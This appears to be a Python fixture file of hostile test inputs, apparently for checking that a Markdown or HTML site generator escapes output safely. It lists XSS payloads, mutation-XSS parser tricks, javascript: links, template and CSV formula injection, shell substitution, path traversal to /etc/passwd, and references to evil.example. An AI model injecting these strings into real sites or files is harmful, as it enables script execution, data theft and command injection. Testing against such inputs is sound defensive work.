"""Hostile texts; each that runs calls `fired`."""

from __future__ import annotations

TEXTS = (
    # HTML, as a cheat sheet has it
    "<script>fired(1)</script>",
    '"><script>fired(2)</script>',
    "'><img src=x onerror=fired(3)>",
    "<img src=x onerror=fired(4)//",
    '<svg onload="fired(5)"><animate onbegin=fired(5) attributeName=x dur=1s>',
    "<iframe srcdoc='<script>parent.fired(6)</script>'></iframe>",
    "<details open ontoggle=fired(7)><summary>x</summary></details>",
    '<a href="javascript:fired(8)">x</a><form action="javascript:fired(8)"><button>x</button></form>',
    '<body onload=fired(9)><input autofocus onfocus=fired(9)><style>@import "//evil.example/x.css";</style>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css"><object data="https://evil.example/x"></object>',
    # what ends what a text may stand in
    "</script><script>fired(10)</script>",
    "</textarea></title></style></noscript></template></article></main><img src=x onerror=fired(11)>",
    "--><img src=x onerror=fired(12)><!--",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>fired(13)</script><![CDATA[",
    "';fired(14);//\";fired(14);//`;fired(14);//${fired(14)}",
    "\u2028fired(15)\u2029fired(15)\u0085fired(15)",
    "*/fired(16)/*",
    # what changes when it is parsed twice
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=fired(17)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=fired(18)>'>",
    "&lt;img src=x onerror=fired(19)&gt; &amp;lt;script&amp;gt;fired(19)&amp;lt;/script&amp;gt;",
    "<svg></p><style><a id='</style><img src=1 onerror=fired(20)>'>",
    # ids that a theme relies on
    "<input id=__search><input id=__drawer><form name=__palette><a id=__config name=location>x</a>",
    # Markdown, and what sites made of it act on
    "[x](javascript:fired(21)) [x](&#106;avascript:fired(21)) <javascript:fired(21)> [x]: javascript:fired(21)",
    "![x](x){ onerror=fired(22) } **x**{: onmouseover=fired(22) id=__search }",
    '{: onclick=fired(23) }\n\n# x {: onclick=fired(23) }\n\n--8<-- "/etc/passwd"\n',
    "```html {onclick=fired(24)}\n<script>fired(24)</script>\n```\n~~~\n",
    "{{ config.__class__ }} {% raw %} {# x #} {{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>",
    "---\ntitle: x\ntemplate: ../../x\n---\n\n<!--mw:0--> <!--mw:9999-->",
    "x | x\n-|-\n<b onclick=fired(25)> | `|` \\| \n\n!!! note\n    x\n\n[^1]: x\n*[x]: y\n:smile: ++x++ ==x==",
    # what is seen otherwise than it is
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff\u00ad",
    "\x00\x07\x1b[31m\x7f\x9b1m",
    "👩‍🔬 مرحبا می‌خواهم Z͑ͫ̓ͪ̂ͫ̽a̸l̷g̶o̷ \U000e0041\ufffe",
    "=cmd|' /C calc'!A0 @SUM(1) +1 -1",
    "$(fired) `fired` ; fired | fired %0d%0aSet-Cookie: x=y ../../../../etc/passwd",
    "W" * 300,
    "word " * 2000,
)
LINKS = (
    "javascript:fired(50)",
    "JaVaScRiPt:fired(51)",
    "java\tscript:fired(52)",
    "\x01javascript:fired(53)",
    "data:text/html,<script>fired(54)</script>",
    "vbscript:fired(55)",
    "//evil.example/x",
    "https://bank.example@evil.example/",
    'https://a.example/" onmouseover="fired(56)',
    "https://a.example/'><script>fired(57)</script>",
    "https://[::1",
    "file:///etc/passwd",
)
NAMES = (
    "<img src=x onerror=fired(70)>",
    "../../../etc/passwd",
    "..",
    "x\" onclick='fired(71)' y=`z`",
    "</script><script>fired(72)</script>",
    "{{ 7*7 }} {% x %} --8<-- {: onclick=fired(73) }",
    "__search",
    "\u202egnp \u2028 %2e%2e%2f #x ?y @z",
    "con",
    "n" * 200,
)
